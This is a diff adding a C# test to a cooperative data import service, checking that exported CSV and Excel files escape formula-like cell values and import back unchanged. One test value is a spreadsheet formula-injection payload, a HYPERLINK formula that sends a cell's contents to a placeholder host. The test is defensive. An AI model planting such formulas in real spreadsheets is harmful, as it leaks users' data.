@@ -2,6 +2,7 @@ using KopUkm.Dashboard.Data.Auditing;
 using KopUkm.Dashboard.Features.Cooperatives;
 using KopUkm.Dashboard.Features.Cooperatives.Import;
 using KopUkm.Dashboard.Features.Security;
+using KopUkm.Dashboard.Tests.Common;
 using KopUkm.Dashboard.Tests.TestInfrastructure;
 using Microsoft.EntityFrameworkCore;
 using static KopUkm.Dashboard.Tests.Features.Cooperatives.Import.ImportFiles;
@@ -171,6 +172,40 @@ public sealed class CooperativeImportServiceTests : IAsyncLifetime
 
         Assert.Equal((2, 0, 0), (result.Added, result.Updated, result.Unchanged));
         Assert.Equal([(3, "Cooperatives.PrimaryMembers")], result.Errors.Select(e => (e.Line, e.MessageKey)));
+    }
+
+    [Theory]
+    [InlineData("koperasi.csv")]
+    [InlineData("koperasi.xlsx")]
+    public async Task An_exported_list_with_formula_like_values_imports_back_to_the_same_values(string fileName)
+    {
+        var original = new Cooperative
+        {
+            Name = "=HYPERLINK(\"http://contoh.invalid/?d=\"&B2,\"Klik\")",
+            Address = "+62 Jalan Sudirman",
+            ChairName = "@Siti Aminah",
+            DeedNumber = "-2",
+            AhuDecreeNumber = "'=1+1",
+            Phone = "+62 812 3456 7890",
+            MemberCount = 30,
+            Nik = "1571010099",
+        };
+        string[] row = CooperativeCsvFormat.ToRow(original, "Jambi");
+        var file = fileName.EndsWith(".csv", StringComparison.Ordinal) ? CooperativeExportEndpoints.ToCsv([row]) : CooperativeExportEndpoints.ToExcel([row]);
+        if (fileName.EndsWith(".csv", StringComparison.Ordinal))
+        {
+            var cells = CsvFileTests.ReadCells(file)[1];
+            Assert.All([cells[0], cells[5], cells[6], cells[7], cells[11], cells[13]], cell => Assert.StartsWith("'", cell, StringComparison.Ordinal));
+        }
+
+        var result = await app.Get<CooperativeImportService>().ImportAsync(new MemoryStream(file), fileName);
+
+        Assert.True(result.AllRowsValid, string.Join("; ", result.Errors));
+        await using var db = await app.DbAsync();
+        var saved = await db.Set<Cooperative>().SingleAsync();
+        Assert.Equal(
+            (original.Name, original.Address, original.ChairName, original.DeedNumber, original.AhuDecreeNumber, original.Phone),
+            (saved.Name, saved.Address, saved.ChairName, saved.DeedNumber, saved.AhuDecreeNumber, saved.Phone));
     }
 
     [Fact]
